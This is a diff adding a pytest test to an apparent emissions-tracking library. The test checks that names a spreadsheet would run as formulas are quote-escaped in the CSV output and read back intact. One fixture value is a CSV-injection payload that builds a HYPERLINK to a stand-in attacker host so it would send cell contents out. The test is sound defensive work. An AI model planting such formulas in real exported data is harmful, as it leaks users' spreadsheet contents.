@@ -173,3 +173,58 @@ def test_output_file_name_is_used(server: FakePowercap, tmp_path: Path) -> None:
     tracker.stop()
     assert [p.name for p in out.iterdir()] == ["run.csv"]
     assert make_tracker(server).output_path is None
+
+
+# Names a spreadsheet would run as a formula, one per character that starts one; a name that
+# already starts with `'` and one; and names that only contain those characters.
+FORMULA_NAMES = {
+    '=HYPERLINK("https://evil.example/?"&A2,"x")': '\'=HYPERLINK("https://evil.example/?"&A2,"x")',
+    "+1": "'+1",
+    "-baseline": "'-baseline",
+    "@team/model": "'@team/model",
+    "\t=1+1": "'\t=1+1",
+    "'=already quoted": "''=already quoted",
+    "resnet-50 = best": "resnet-50 = best",
+    "it's": "it's",
+}
+
+
+@pytest.mark.parametrize("mode", ["append", "update"])
+def test_a_name_that_starts_a_formula_is_written_with_a_quote_and_read_back(
+    server: FakePowercap, tmp_path: Path, mode: str
+) -> None:
+    from carbonmeter.report.model import load
+
+    for name in FORMULA_NAMES:
+        tracker = make_tracker(
+            server,
+            save_to_file=True,
+            output_dir=str(tmp_path),
+            on_csv_write=mode,
+            project_name=name,
+            experiment_name=name,
+        )
+        tracker.start()
+        with tracker.epoch(0, phase=name):
+            server.advance("intel-rapl:0", 1_000_000)
+        tracker.stop()
+        # What Python is handed is the name as set; only the file's cell changes.
+        data = tracker.final_emissions_data
+        assert data is not None
+        assert data.project_name == name
+    rows = read_csv(tmp_path / "emissions.csv")[1]
+    run_rows = [row for row in rows if not row["window"]]
+    assert [row["project_name"] for row in run_rows] == list(FORMULA_NAMES.values())
+    assert [row["experiment_name"] for row in run_rows] == list(FORMULA_NAMES.values())
+    assert all(not row["emissions"].startswith("'") for row in rows)
+    # What docs/columns.md ("Formulas") tells pandas users to do gives every name back.
+    unprefix = f"^'(?='*[{re.escape(carbonmeter.FORMULA_STARTS)}])"
+    assert [re.sub(unprefix, "", row["project_name"]) for row in run_rows] == list(FORMULA_NAMES)
+    # The report takes the quote off: every name reads back as it was set.
+    report = load([tmp_path / "emissions.csv"])
+    assert sorted(run.project for run in report.runs) == sorted(FORMULA_NAMES)
+    assert sorted(run.experiment_name for run in report.runs) == sorted(FORMULA_NAMES)
+    if mode == "append":  # update mode keeps the run's row alone
+        epoch_rows = [row for row in rows if row["window"]]
+        assert [row["phase"] for row in epoch_rows] == list(FORMULA_NAMES.values())
+        assert sorted(run.epochs[0].phase for run in report.runs) == sorted(FORMULA_NAMES)
